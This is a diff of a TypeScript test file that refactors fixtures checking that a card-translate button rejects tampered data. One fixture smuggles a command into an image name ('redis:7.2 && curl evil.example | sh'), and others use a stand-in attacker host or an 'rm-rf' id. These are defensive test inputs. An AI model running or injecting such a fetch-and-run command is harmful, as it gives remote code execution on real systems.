@@ -401,46 +401,34 @@ describe('card buttons', () => {
     expect(textOf(cardOf(calls[0]?.body))).toContain(symptomText('dns-lookup', 'en').title);
   });
 
-  const diagnosisData = (extra: Record<string, unknown>) => ({
+  /** A language button's action showing `card` in `locale`. */
+  const translate = (card: unknown, locale = 'en') => ({
     verb: 'card.translate',
-    data: {
-      verb: 'card.translate',
-      locale: 'de',
-      card: {
-        view: 'diagnosis',
-        verdict: 'not-network',
-        kind: 'rate-limit',
-        registry: null,
-        symptoms: [],
-        causes: [],
-        ...extra,
-      },
-    },
+    data: { verb: 'card.translate', locale, card },
   });
+  /** A diagnosis view as card data: a network verdict with nothing in it, changed by `fields`. */
+  const diagnosis = (fields: Record<string, unknown>) => ({
+    view: 'diagnosis',
+    verdict: 'network',
+    kind: null,
+    registry: null,
+    symptoms: [],
+    causes: [],
+    ...fields,
+  });
+  const rateLimit = (fields: Record<string, unknown>) =>
+    translate(diagnosis({ verdict: 'not-network', kind: 'rate-limit', ...fields }), 'de');
   const tampered: [string, unknown][] = [
     ['no value at all', undefined],
-    ['an image that no paste could name', diagnosisData({ image: 'redis:7.2 && curl evil.example | sh' })],
-    ['a regional endpoint that is not one', diagnosisData({ regionalEndpoints: ['evil.example.com'] })],
+    ['an image that no paste could name', rateLimit({ image: 'redis:7.2 && curl evil.example | sh' })],
+    ['a regional endpoint that is not one', rateLimit({ regionalEndpoints: ['evil.example.com'] })],
     ['an unknown verb', { verb: 'probe.run', data: { verb: 'probe.run', registry: '10.0.0.1' } }],
     ['a verb that differs from its data', { verb: 'card.translate', data: { verb: 'example.show' } }],
     [
       'a registry that is not an Azure registry',
-      {
-        verb: 'card.translate',
-        data: {
-          verb: 'card.translate',
-          locale: 'de',
-          card: { view: 'registry', registry: 'evil.example.com', regions: [] },
-        },
-      },
+      translate({ view: 'registry', registry: 'evil.example.com', regions: [] }, 'de'),
     ],
-    [
-      'an unknown language',
-      {
-        verb: 'card.translate',
-        data: { verb: 'card.translate', locale: 'fr', card: { view: 'help', welcome: false } },
-      },
-    ],
+    ['an unknown language', translate({ view: 'help', welcome: false }, 'fr')],
     [
       'a cause the diagnosis does not have',
       {
@@ -450,41 +438,9 @@ describe('card buttons', () => {
     ],
     [
       'a symptom id that does not exist',
-      {
-        verb: 'card.translate',
-        data: {
-          verb: 'card.translate',
-          locale: 'en',
-          card: {
-            view: 'diagnosis',
-            verdict: 'network',
-            kind: null,
-            registry: null,
-            symptoms: [{ id: 'rm-rf', score: 1, evidence: '' }],
-            causes: [],
-          },
-        },
-      },
+      translate(diagnosis({ symptoms: [{ id: 'rm-rf', score: 1, evidence: '' }] })),
     ],
-    [
-      'a client address that is not an IP',
-      {
-        verb: 'card.translate',
-        data: {
-          verb: 'card.translate',
-          locale: 'en',
-          card: {
-            view: 'diagnosis',
-            verdict: 'network',
-            kind: null,
-            registry: null,
-            clientIp: 'evil.example.com',
-            symptoms: [],
-            causes: [],
-          },
-        },
-      },
-    ],
+    ['a client address that is not an IP', translate(diagnosis({ clientIp: 'evil.example.com' }))],
     ['a string instead of an object', { verb: 'card.translate', data: 'card.translate' }],
     ...(
       [
@@ -494,22 +450,7 @@ describe('card buttons', () => {
       ] as const
     ).map(([what, verdict, kindEvidence]): [string, unknown] => [
       `a kind's evidence that is ${what}`,
-      {
-        verb: 'card.translate',
-        data: {
-          verb: 'card.translate',
-          locale: 'en',
-          card: {
-            view: 'diagnosis',
-            verdict,
-            kind: verdict === 'network' ? null : 'auth',
-            registry: null,
-            kindEvidence,
-            symptoms: [],
-            causes: [],
-          },
-        },
-      },
+      translate(diagnosis({ verdict, kind: verdict === 'network' ? null : 'auth', kindEvidence })),
     ]),
   ];
 
